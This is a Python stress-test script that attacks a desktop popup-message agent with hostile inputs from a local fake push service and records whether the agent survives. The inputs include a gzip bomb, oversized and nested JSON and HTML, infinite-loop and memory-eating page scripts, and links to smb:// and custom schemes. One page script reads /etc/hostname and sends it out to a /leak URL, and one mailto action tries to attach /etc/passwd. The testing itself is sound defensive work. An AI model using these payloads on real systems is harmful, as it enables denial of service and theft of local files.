#!/usr/bin/env python3
"""Hostile message content against the real agent: what one message or one
push answer does to it. Prints one line per case and a Markdown table.

usage: ZAV_AGENT=build/src/zav-msg-agent ZAV_PUSH_PORT=8360 \\
       stress/hostile_content.py [group...]

groups: text answers pages clicks sizes (default: all), and the bounds of the
second round: bounds (all of these) or bounds-text bounds-answers
bounds-hosts bounds-clicks

Each case gets an agent of its own (own pipe directory, own "mac"). The
script plays the push service the agent was built for (ZAV_PUSH_PORT) and
serves the pages of the page cases. Cases with links run on a private Xvfb
with a stub `xdg-open` first on PATH that records every call. After each case:
is the agent alive, how long "Hello" takes, RSS growth and peak over the
agent's RSS before the case, how long it takes to end on SIGTERM.
Push cases wait for the agent's first poll (60 s after its start); they run
side by side. Run it in a network namespace of its own, so that no other
service on the machine shares the port:
    unshare --net --fork sh -c 'ip link set lo up && stress/hostile_content.py'"""
import json, zlib, os, signal, socket, subprocess, sys, tempfile, threading, time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlparse, parse_qs

AGENT = os.environ.get("ZAV_AGENT", "build/src/zav-msg-agent")
PORT = int(os.environ.get("ZAV_PUSH_PORT", "8360"))
WORK = tempfile.mkdtemp(prefix="zav-content-")
rows = []
lock = threading.Lock()
answers = {}   # mac -> list of answers (dict: body, headers, hold, stream)
polls = {}     # mac -> list of request times
hang = {}      # mac -> time until which every request of that mac hangs
actions = []   # raw query strings of action reports
leaks = []     # paths of requests to /leak
release = threading.Event()


def row(group, case, before, after):
    rows.append((group, case, before, after))
    print(f"[{group}] {case}: {after}", flush=True)


class Service(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *a):
        pass

    def send(self, body, ctype="application/json", headers=()):
        self.send_response(200)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        for k, v in headers:
            self.send_header(k, v)
        self.end_headers()
        try:
            self.wfile.write(body)
        except OSError:
            pass

    def stream(self, head, seconds):
        end = time.time() + seconds
        try:
            self.wfile.write(head)
            while time.time() < end and not release.is_set():
                self.wfile.write(b"x" * 4096)
        except OSError:
            pass
        self.close_connection = True

    def do_GET(self):
        url = urlparse(self.path)
        q = parse_qs(url.query)
        if url.path.endswith("/channel/polling/action"):
            actions.append(url.query)
            return self.send(b'{"code":0}')
        if url.path.startswith("/leak"):
            leaks.append(self.path)
            return self.send(b"", "text/plain")
        if url.path.startswith("/page/"):
            return self.send(PAGES[url.path[6:]].encode(), "text/html")
        mac = q.get("mac", [""])[0]
        with lock:
            polls.setdefault(mac, []).append(time.time())
            todo = answers.get(mac, [])
            a = todo.pop(0) if todo else {"body": b'{"code":800,"data":0}'}
        if a.get("hold"):
            hang[mac] = time.time() + a["hold"]
        if time.time() < hang.get(mac, 0):
            release.wait(hang[mac] - time.time())
            return
        if a.get("stream"):  # raw bytes, then the same line without end
            return self.stream(a["body"], a["stream"])
        self.send(a["body"], headers=a.get("headers", ()))


def give(mac, body, **kw):
    with lock:
        answers.setdefault(mac, []).append(
            dict(body=body if isinstance(body, bytes) else body.encode(), **kw))


def answered(mac, timeout):
    end = time.time() + timeout
    while time.time() < end:
        with lock:
            if not answers.get(mac):
                return True
        time.sleep(0.2)
    return False


class Xvfb:
    def __init__(self):
        self.display = None
        for n in range(91, 120):
            if not os.path.exists(f"/tmp/.X11-unix/X{n}") and not os.path.exists(f"/tmp/.X{n}-lock"):
                self.display = f":{n}"
                break
        self.proc = subprocess.Popen(["Xvfb", self.display, "-screen", "0", "1280x1024x24",
                                      "-nolisten", "tcp"], stderr=subprocess.DEVNULL)
        time.sleep(1.5)

    def click(self, x, y):
        subprocess.run(["xdotool", "mousemove", str(x), str(y), "click", "1"],
                       env=dict(os.environ, DISPLAY=self.display))

    def stop(self):
        self.proc.terminate()
        self.proc.wait()


class Agent:
    count = 0

    def __init__(self, x11=None, env_extra=None, mac=None, wait=True, handle="auto"):
        Agent.count += 1
        self.mac = mac or f"M{Agent.count}"
        self.dir = tempfile.mkdtemp(prefix="agent-", dir=WORK)
        self.pipe = os.path.join(self.dir, "zav_msg_ipc_pipe")
        self.opened = os.path.join(self.dir, "xdg-open.log")
        stub = os.path.join(self.dir, "bin")
        os.mkdir(stub)
        with open(os.path.join(stub, "xdg-open"), "w") as f:
            f.write(f'#!/bin/sh\necho "$*" >> {self.opened}\n')
        os.chmod(os.path.join(stub, "xdg-open"), 0o755)
        self.host = subprocess.Popen(["sleep", "100000"])
        env = dict(os.environ, XDG_RUNTIME_DIR=self.dir, DBUS_SESSION_BUS_ADDRESS="disabled:",
                   PATH=stub + ":" + os.environ["PATH"], QT_XCB_GL_INTEGRATION="none")
        if x11:
            env.update(QT_QPA_PLATFORM="xcb", DISPLAY=x11.display)
        else:
            env["QT_QPA_PLATFORM"] = "offscreen"
        env.update(env_extra or {})
        env = {k: v for k, v in env.items() if v is not None}
        self.log = open(os.path.join(self.dir, "agent.log"), "wb")
        self.env = env
        self.args = [AGENT, "-pid", str(self.host.pid), "-product", "P", "-mac", self.mac,
                     "-handle", handle]
        self.proc = subprocess.Popen(self.args, env=env, stdout=self.log, stderr=self.log)
        for _ in range(100 if wait else 0):
            if os.path.exists(self.pipe):
                break
            time.sleep(0.1)
        self.started = time.time()
        self.cpu0 = 0

    def cmd(self, data, timeout=5):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(timeout)
        try:
            s.connect(self.pipe)
            s.sendall(data if isinstance(data, bytes) else data.encode())
            return s.recv(1 << 16)
        except OSError:
            return b""
        finally:
            s.close()

    def popup(self, **msg):
        return self.cmd("PopupMessage:" + json.dumps(msg))

    def hello(self):
        t = time.time()
        r = self.cmd("Hello", timeout=10)
        return (time.time() - t) if r == b"OK" else None

    def status(self, key):
        try:
            with open(f"/proc/{self.proc.pid}/status") as f:
                for line in f:
                    if line.startswith(key + ":"):
                        return int(line.split()[1]) / 1024
        except OSError:
            pass
        return 0

    def cpu(self, task=None):
        """CPU seconds of the process, or of one of its threads."""
        path = f"/proc/{self.proc.pid}" + (f"/task/{task}" if task else "") + "/stat"
        try:
            with open(path) as f:
                fields = f.read().rsplit(")", 1)[1].split()
            return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
        except (OSError, IndexError):
            return 0

    def baseline(self):
        self.cpu0 = self.cpu(self.proc.pid)
        self.rss0 = self.status("VmRSS")
        # Peak from here on: reset the high-water mark.
        try:
            with open(f"/proc/{self.proc.pid}/clear_refs", "w") as f:
                f.write("5")
        except OSError:
            pass

    def opens(self):
        try:
            with open(self.opened) as f:
                return [l.strip() for l in f]
        except OSError:
            return []

    def log_text(self):
        with open(os.path.join(self.dir, "agent.log"), "rb") as f:
            return f.read().decode("utf-8", "replace")

    def verdict(self, unblock=None):
        """alive, Hello time, RSS growth/peak, SIGTERM time."""
        alive = self.proc.poll() is None
        if not alive:
            code = self.proc.returncode
            self.host.kill()
            tail = self.log_text().strip().splitlines()[-1:] or [""]
            return f"DIED (exit {code}: {tail[0][-80:]})"
        h = self.hello()
        rss, peak = self.status("VmRSS") - self.rss0, self.status("VmHWM") - self.rss0
        t = time.time()
        self.proc.send_signal(signal.SIGTERM)
        try:
            self.proc.wait(5)
            term = f"ended in {time.time() - t:.2f} s"
        except subprocess.TimeoutExpired:
            term = "did NOT end within 5 s on SIGTERM"
            if unblock:
                unblock()
            self.proc.kill()
            self.proc.wait()
        self.host.kill()
        hs = f"Hello in {h * 1000:.0f} ms" if h is not None else "Hello NOT answered"
        return f"alive, {hs}, RSS {rss:+.0f} MB (peak {peak:+.0f} MB), {term}"

    def shows_next(self):
        """Whether a popup sent now is shown within 1 s (its debug line), at a
        corner of its own (a full corner would hold it back)."""
        self.popup(title="next", settings=[{"key": "position", "value": "top left"}])
        end = time.time() + 1
        while time.time() < end:
            if any("popup shown:" in l and l.endswith(": next") for l in self.log_text().splitlines()):
                return "next popup shown within 1 s"
            time.sleep(0.05)
        return "next popup NOT shown within 1 s"

    def bounded(self, unblock=None):
        """verdict() with the main thread's CPU since baseline() and the next popup."""
        if self.proc.poll() is not None:
            return self.verdict(unblock)
        main = self.cpu(self.proc.pid) - self.cpu0
        nxt = self.shows_next()
        return f"main thread {main:.2f} s CPU, {nxt}, {self.verdict(unblock)}"


def fifo():
    path = os.path.join(WORK, f"fifo{time.time_ns()}")
    os.mkfifo(path)

    def unblock():
        try:
            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            os.close(fd)
        except OSError:
            pass
    return path, unblock


def warm(agent):
    agent.popup(title="warm-up", summary="<b>warm</b> up")
    time.sleep(1.5)
    agent.baseline()


# ---- text ------------------------------------------------------------------
def window_sizes(x11):
    tree = subprocess.run(["xwininfo", "-root", "-tree"], capture_output=True, text=True,
                          env=dict(os.environ, DISPLAY=x11.display)).stdout
    sizes = [l.split()[-2].split("+")[0] for l in tree.splitlines()
             if "zav-msg-agent" in l and "1x1+" not in l and "640x480" not in l]
    return sorted(sizes, key=lambda s: int(s.split("x")[0]) * int(s.split("x")[1]))


def big_text_cases(x11):
    for html in ('<span style="font-size:3000pt">XXXXXXXXX</span>',
                 '<table width=100000 height=100000 border=50 cellpadding=10000><tr><td>x</td></tr></table>'):
        a = Agent(x11)
        warm(a)
        a.popup(authorName=html, title=html, summary=html)
        time.sleep(3)
        sizes = window_sizes(x11)
        row("text", f"`{html}` in sender, title and summary (Xvfb)", "",
            f"popup {sizes[-1] if sizes else '?'}; {a.verdict()}")
        time.sleep(0.5)


def text_cases():
    for field in ("summary", "title", "authorName"):
        a = Agent()
        warm(a)
        for _ in range(2):
            a.popup(**{field: '<img src="/dev/zero">'})
            time.sleep(8)
        row("text", f'{field} `<img src="/dev/zero">` over the pipe, twice', "", a.verdict())
    for html in ('<img src="FIFO">', '<body background="FIFO">x</body>',
                 '<link rel="stylesheet" href="FIFO"><p>x</p>'):
        a = Agent()
        warm(a)
        path, unblock = fifo()
        a.popup(summary=html.replace("FIFO", path))
        time.sleep(2)
        a.popup(title="after")
        time.sleep(1)
        row("text", f"summary `{html}` (a FIFO)", "", a.verdict(unblock))
        unblock()
    a = Agent()
    warm(a)
    a.popup(summary='<b>bold</b> <i>it</i> <a href="https://example.com">link</a> <ul><li>one</li></ul>'
            '<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==">')
    time.sleep(1)
    row("text", "safe markup and a data: image", "", a.verdict())


# ---- answers (push service) -------------------------------------------------
def answer_cases():
    zero = json.dumps({"code": 801, "data": [{"uuid": "z", "summary": '<img src="/dev/zero">'}]})
    z = zlib.compressobj(9, zlib.DEFLATED, 31)  # gzip framing
    bomb = b"".join(z.compress(b" " * (1 << 24)) for _ in range(64)) + z.flush()
    path, unblock = fifo()
    cases = [
        ("801 for an auto host, summary `<img src=\"/dev/zero\">`", [dict(body=zero)], None),
        (f"gzip answer of {len(bomb) / 1e6:.1f} MB inflating to 1 GiB",
         [dict(body=bomb, headers=[("Content-Encoding", "gzip")])], None),
        ("801 for an auto host, a summary of 7 MB (one word) and one of 7 MB of nested `<div>`",
         [dict(body=json.dumps({"code": 801, "data": [{"summary": "x" * (7 << 20)},
                                                     {"summary": "<div>" * ((7 << 20) // 5)}]}))],
         None),
        ("plain answer of 100 MB", [dict(body=b'{"code":801,"data":[{"summary":"' + b"y" * (100 << 20) + b'"}]}')], None),
        ("20 MB of `[`", [dict(body=b"[" * (20 << 20))], None),
        ("an array of numbers just under 16 MiB (`[1,1,...]`)",
         [dict(body=b"[" + b"1," * ((16 << 20) // 2 - 8) + b"1]")], None),
        ("15 MB of `[` (under the cap)", [dict(body=b"[" * (15 << 20))], None),
        ("903 to `file:///<fifo>#`", [dict(body=json.dumps({"code": 903, "data": f"file://{path}#"}))], unblock),
        ("902 with 1e300", [dict(body=b'{"code":902,"data":1e300}')], None),
        ('902 with "4294967297"', [dict(body=b'{"code":902,"data":"4294967297"}')], None),
        ("a service that accepts every request and never answers (70 s)", [dict(body=b"", hold=70)], None),
    ]
    agents = []
    for name, todo, unb in cases:
        a = Agent()
        give(a.mac, '{"code":902,"data":1}')
        for t in todo:
            give(a.mac, **t)
        agents.append((name, a, unb))
    time.sleep(3)
    for _, a, _ in agents:
        a.baseline()
    print("waiting for the first polls (60 s after start)", flush=True)
    for name, a, unb in agents:
        answered(a.mac, 120)
    marks = {a.mac: len(polls.get(a.mac, [])) for _, a, _ in agents}
    time.sleep(12)
    hold_ok = None
    for name, a, unb in agents:
        n = len(polls.get(a.mac, [])) - marks[a.mac]
        extra = f"{n} polls in the 12 s after it"
        if "never answers" in name:
            time.sleep(max(0, 40 - 12))
            n = len(polls.get(a.mac, [])) - marks[a.mac]
            extra = f"{n} requests reached the service in the 40 s after it"
        row("answers", name, "", f"{a.verdict(unb)}; {extra}")
    unblock()
    release.set()


# ---- pages -----------------------------------------------------------------
PAGES = {
    "clickloop": """<html><body><a id=a href="smb://evil/share">smb</a><a id=b href="zavevil:run">custom</a>
<script>var n=0;setInterval(function(){document.getElementById(n++%2?'a':'b').click();},5);</script></body></html>""",
    "biglink": """<html><body style="margin:0"><a href="https://example.com/clicked" style="display:block;width:100%;height:400px;background:#eee">click me</a></body></html>""",
    "loop": """<html><body>loop<script>while (true) {}</script></body></html>""",
    "alloc": """<html><body>alloc<script>var keep = [];
(function more() { for (var i = 0; i < 50; ++i) keep.push(new Array(1 << 20).fill(i)); setTimeout(more, 0); })();
</script></body></html>""",
    "xhrfile": """<html><body><script>
try{var x=new XMLHttpRequest();x.open('GET','file:///etc/hostname',false);x.send();
new Image().src='http://127.0.0.1:PORT/leak?from=http&d='+encodeURIComponent(x.responseText);}catch(e){}
</script>x</body></html>""",
}


def page_views(agent):
    """Process ids of the page view programs below the agent."""
    out = subprocess.run(["ps", "-eo", "pid,ppid,args"], capture_output=True, text=True).stdout
    parent = {}
    views = []
    for line in out.splitlines()[1:]:
        pid, ppid, args = line.split(None, 2)
        parent[int(pid)] = int(ppid)
        if args.split()[0].endswith("/zav-page-view"):
            views.append(int(pid))
    def below(p):
        while p > 1:
            p = parent.get(p, 0)
            if p == agent.proc.pid:
                return True
        return False
    return [v for v in views if below(v)]


def why_gone(agent):
    lines = [l for l in agent.log_text().splitlines() if "page could not be shown" in l]
    return lines[-1].split("page could not be shown:")[-1].strip() if lines else "page still shown"


def hostile_page_cases(x11):
    base = f"http://127.0.0.1:{PORT}/page/"
    for case, path in (("a page whose script loops (`while (true) {}`)", "loop"),
                       ("a page that allocates without end", "alloc"),
                       ("a page popup whose page view is killed (SIGKILL)", "biglink")):
        a = Agent(x11)
        warm(a)
        t = time.time()
        a.popup(title=path, messageFrom="Url", url=base + path, settings=[{"key": "position", "value": "center"}])
        time.sleep(3)
        if path == "biglink":
            for v in page_views(a):
                os.kill(v, signal.SIGKILL)
        h = a.hello()
        a.popup(title="after", summary="another popup", settings=[{"key": "position", "value": "top right"}])
        end = time.time() + 40
        while time.time() < end and why_gone(a) == "page still shown":
            time.sleep(0.5)
        gone = time.time() - t
        hs = f"Hello in {h * 1000:.0f} ms while it ran" if h is not None else "Hello NOT answered while it ran"
        row("pages", case, "", f"{hs}; popup ended after {gone:.0f} s: {why_gone(a)}; {a.verdict()}")


def page_cases(x11):
    leakfile = os.path.join(WORK, "leak.html")
    with open(leakfile, "w") as f:
        f.write(PAGES["xhrfile"].replace("PORT", str(PORT)).replace("from=http", "from=file"))
    for p in PAGES:
        PAGES[p] = PAGES[p].replace("PORT", str(PORT))
    base = f"http://127.0.0.1:{PORT}/page/"
    a = Agent(x11)
    a.popup(title="warm", messageFrom="Url", url=base + "biglink", settings=[{"key": "position", "value": "left top"}])
    time.sleep(3)
    a.baseline()
    a.popup(title="loop", messageFrom="Url", url=base + "clickloop", settings=[{"key": "position", "value": "bottom right"}])
    time.sleep(5)
    n = len(a.opens())
    row("pages", "page script clicking `smb:` and custom-scheme links every 5 ms, 5 s, no user input",
        "", f"{n} xdg-open calls; {a.verdict()}")
    a = Agent(x11)
    a.popup(title="warm", messageFrom="Url", url=base + "biglink", settings=[{"key": "position", "value": "left top"}])
    time.sleep(3)
    a.baseline()
    a.popup(title="file", messageFrom="Url", url="file://" + leakfile)
    time.sleep(4)
    a.popup(title="http", messageFrom="Url", url=base + "xhrfile")
    time.sleep(4)
    row("pages", "page popup of a `file://` page that reads /etc/hostname (XHR) and sends it out; the same from an http page",
        "", f"requests to /leak: {leaks or 'none'}; {a.verdict()}")


# ---- clicks ----------------------------------------------------------------
def click_cases(x11):
    # A centred 310 x 210 popup on 1280 x 1024: its last action button ends 14 px
    # left of and 11 px above its bottom-right corner.
    cx, cy = (1280 - 310) // 2, (1024 - 210) // 2
    button = (cx + 310 - 14 - 35, cy + 210 - 11 - 11)
    close = (cx + 310 - 5 - 12, cy + 5 + 12)
    center = [{"key": "position", "value": "center"}]
    a = Agent(x11)
    a.popup(title="warm", summary="<b>warm</b>", settings=[{"key": "position", "value": "left top"}])
    a.popup(title="warm", messageFrom="Url", url=f"http://127.0.0.1:{PORT}/page/biglink",
            settings=[{"key": "position", "value": "bottom left"}])
    time.sleep(3)
    a.baseline()
    for url in ("file:///usr/bin/id", "/usr/bin/id", "smb://host/share", "zavevil:run", "https://example.com/ok"):
        a.popup(title="act", settings=center, actions=[{"id": "1&x=y", "action": "Open", "url": url}])
        time.sleep(1.5)
        x11.click(*button)
        time.sleep(1.5)
    for url in ("file:///usr/bin/id", "/usr/bin/id", "smb://host/share", "https://example.com/link"):
        a.popup(title="link", settings=center,
                summary=f'<a href="{url}"><span style="font-size:40pt">LINKLINKLINK</span></a>'
                        f'<br><a href="{url}"><span style="font-size:40pt">LINKLINKLINK</span></a>')
        time.sleep(1.5)
        x11.click(cx + 100, cy + 110)
        time.sleep(1)
        x11.click(*close)
        time.sleep(1)
    a.popup(title="page", settings=center, messageFrom="Url",
            url=f"http://127.0.0.1:{PORT}/page/biglink")
    time.sleep(3)
    x11.click(cx + 100, cy + 110)
    time.sleep(1.5)
    row("clicks", "action buttons (id `1&x=y`) with file:///usr/bin/id, /usr/bin/id, smb://, a custom scheme, https; "
        "body links with the first three and https; a page link (https), each clicked once",
        "", f"xdg-open calls: {a.opens()}; action reports: {actions}; {a.verdict()}")


# ---- sizes -----------------------------------------------------------------
def size_cases():
    a = Agent()
    warm(a)
    for i in range(1000):
        a.popup(title=f"t{i}", summary="s")
    time.sleep(5)
    row("sizes", "1,000 pipe popups", "", a.verdict())
    a = Agent()
    warm(a)
    a.popup(title="big", settings=[{"key": "width", "value": "16000"}, {"key": "height", "value": "16000"}])
    time.sleep(3)
    row("sizes", "width and height 16000", "", a.verdict())


# ---- bounds: inputs that used to make the main thread work without end --------
def bounds_text_cases():
    rows_html = "<table>" + '<tr><td colspan="60000">x</td></tr>' * 150 + "</table>"
    for field, html in (("title", '<table cellpadding="100000000"><tr><td>x</td></tr></table>'),
                        ("summary", '<table cellspacing="100000000"><tr><td>x</td></tr></table>'),
                        ("authorName", '<table cellpadding="100000000"><tr><td>x</td></tr></table>'),
                        ("summary", rows_html)):
        a = Agent()
        warm(a)
        a.popup(**{field: html})
        time.sleep(20)
        row("bounds", f"{field} `{html[:60]}`{' (%d bytes)' % len(html) if len(html) > 60 else ''}",
            "", a.bounded())
    a = Agent()
    warm(a)
    a.popup(title="many", actions=[{}] * 40000)
    time.sleep(20)
    row("bounds", "40,000 empty actions over the pipe", "", a.bounded())


def bounds_registration_cases():
    # A customize host with 3 queued messages starts the agent again.
    a = Agent(mac="REREG", handle="customize")
    give(a.mac, '{"code":800,"data":3}')
    give(a.mac, json.dumps({"code": 801, "data": [{"title": str(i)} for i in range(3)]}))
    a.baseline()
    answered(a.mac, 120)
    time.sleep(2)
    count = a.cmd(f"MessageCount:{a.host.pid}")
    again = subprocess.run(a.args, env=a.env, capture_output=True, timeout=30)
    after = a.cmd(f"MessageCount:{a.host.pid}")
    row("bounds", "a customize host with 3 queued starts the agent again (same pid)", "",
        f"MessageCount {count.decode()} -> {after.decode()} (second start exit {again.returncode}); "
        + a.bounded())
    # No XDG_RUNTIME_DIR and the fallback directory taken by another user.
    tmp = tempfile.mkdtemp(prefix="tmp-", dir=WORK)
    squat = os.path.join(tmp, f"zav-msg-{os.getuid()}")
    os.mkdir(squat, 0o755)
    os.chown(squat, 65534, 65534)
    home = tempfile.mkdtemp(prefix="home-", dir=WORK)
    extra = dict(XDG_RUNTIME_DIR=None, TMPDIR=tmp, HOME=home, XDG_CACHE_HOME=None)
    first = Agent(env_extra=extra, wait=False)
    time.sleep(3)
    second = Agent(env_extra=extra, wait=False)
    time.sleep(10)
    alive = [x.proc.poll() is None for x in (first, second)]
    lines = [l for l in first.log_text().splitlines() if "lock" in l or "pipe" in l][:3]
    for x in (first, second):
        if x.proc.poll() is None:
            x.proc.terminate()
            x.proc.wait()
        x.host.kill()
    row("bounds", "no XDG_RUNTIME_DIR, <tmp>/zav-msg-<uid> made by another user; two starts", "",
        f"{sum(alive)} agent(s) running 10 s after the second start (second: "
        f"{'running' if alive[1] else 'exit %s' % second.proc.returncode}); log: {lines}")


def bounds_answer_cases():
    empty = b'{"code":801,"data":[' + b",".join([b"{}"] * ((16 << 20) // 3 - 20)) + b"]}"
    cases = [
        ("endless status line", dict(body=b"HTTP/1.1 200 OK", stream=150)),
        ("endless header section", dict(body=b"HTTP/1.1 200 OK\r\nX-A: ", stream=150)),
        ("endless chunk-size line",
         dict(body=b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n1", stream=150)),
        (f"801 of {len(empty) / 2**20:.1f} MiB: {(len(empty) - 20) // 3:,} empty messages, "
         "auto host", dict(body=empty)),
        (f"the same for a customize host", dict(body=empty)),
        ("801 with 40,000 empty actions",
         dict(body=json.dumps({"code": 801, "data": [{"title": "x", "actions": [{}] * 40000}]}))),
    ]
    agents = []
    for name, answer in cases:
        a = Agent(handle="customize" if "customize" in name else "auto")
        give(a.mac, '{"code":902,"data":1}')
        give(a.mac, **answer)
        agents.append((name, a))
    time.sleep(3)
    for _, a in agents:
        a.baseline()
    print("waiting for the first polls (60 s after start)", flush=True)
    for _, a in agents:
        answered(a.mac, 120)
    marks = {a.mac: (len(polls.get(a.mac, [])), time.time(), a.cpu()) for _, a in agents}
    time.sleep(60)
    for name, a in agents:
        n0, t0, c0 = marks[a.mac]
        n = len(polls.get(a.mac, [])) - n0
        cpu = a.cpu() - c0
        row("bounds", name, "", f"{n} requests reached the service in the {time.time() - t0:.0f} s "
            f"after it, agent CPU {cpu:.1f} s in that time; {a.bounded()}")
    release.set()


def bounds_click_cases(x11):
    cx, cy = (1280 - 310) // 2, (1024 - 210) // 2
    button = (cx + 310 - 14 - 35, cy + 210 - 11 - 11)
    a = Agent(x11)
    a.popup(title="warm", summary="<b>warm</b>", settings=[{"key": "position", "value": "left top"}])
    time.sleep(3)
    a.baseline()
    a.popup(title="mail", settings=[{"key": "position", "value": "center"}],
            actions=[{"id": "m", "action": "Mail",
                      "url": "mailto:x@example.com?subject=Hi&attach=/etc/passwd"
                             "&attachment=file:///etc/passwd&body=B"}])
    time.sleep(1.5)
    x11.click(*button)
    time.sleep(1.5)
    row("bounds", "action `mailto:x@example.com?subject=Hi&attach=/etc/passwd&attachment=file:///etc/passwd&body=B`",
        "", f"xdg-open calls: {a.opens()}; {a.bounded()}")


def main():
    groups = sys.argv[1:] or ["text", "answers", "pages", "clicks", "sizes"]
    threads = []
    server = ThreadingHTTPServer(("127.0.0.1", PORT), Service)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    if "answers" in groups:
        threads.append(threading.Thread(target=answer_cases))
        threads[-1].start()
    if "bounds" in groups:
        groups += ["bounds-text", "bounds-answers", "bounds-hosts", "bounds-clicks"]
    if "bounds-answers" in groups:
        threads.append(threading.Thread(target=bounds_answer_cases))
        threads[-1].start()
    if "bounds-text" in groups:
        bounds_text_cases()
    if "bounds-hosts" in groups:
        bounds_registration_cases()
    if "text" in groups:
        text_cases()
    x11 = Xvfb() if {"pages", "clicks", "text", "bounds-clicks"} & set(groups) else None
    if "bounds-clicks" in groups:
        bounds_click_cases(x11)
    if "text" in groups:
        big_text_cases(x11)
    if "clicks" in groups:
        click_cases(x11)
    if "pages" in groups:
        page_cases(x11)
        hostile_page_cases(x11)
    if x11:
        x11.stop()
    if "sizes" in groups:
        size_cases()
    for t in threads:
        t.join()
    print("\n| Surface | Case | Result |\n|---|---|---|")
    for g, case, _, after in rows:
        print(f"| {g} | {case} | {after} |")


if __name__ == "__main__":
    main()
